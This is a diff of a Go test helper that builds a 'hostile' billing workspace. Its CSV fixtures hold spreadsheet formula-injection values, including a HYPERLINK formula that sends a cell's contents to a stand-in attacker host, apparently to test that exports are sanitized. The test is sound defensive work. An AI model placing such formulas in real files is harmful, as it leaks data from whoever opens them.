@@ -27,7 +27,7 @@ func hostileWorkspace(t *testing.T) string {
 	const link = `"=HYPERLINK(""http://evil.example/?""&A1,""open"")"`
 	dir := workspaceOf(t, map[string]string{
 		"tollbook.yaml": "zone: Asia/Shanghai\ncurrency: {code: CNY, digits: 2}\n" +
-			"rounding: {grain: cycle, mode: half_up}\n",
+			"rounding: {grain: cycle, mode: half_up}\npayments: ledger\n",
 		"books/products.csv":  "sku,name,service_type_code,measure,pricing_model\n1E5,+SUM(1),2026-09,GB,flat\n",
 		"books/prices.csv":    "sku,region_code,valid_from,tier,unit_price\n1E5,*,2026-01-01,1,0.335\n",
 		"books/customers.csv": "customer_id,name\n1234567890123456," + link + "\n=1+1,plain\n00123,@SUM(A1)\n",
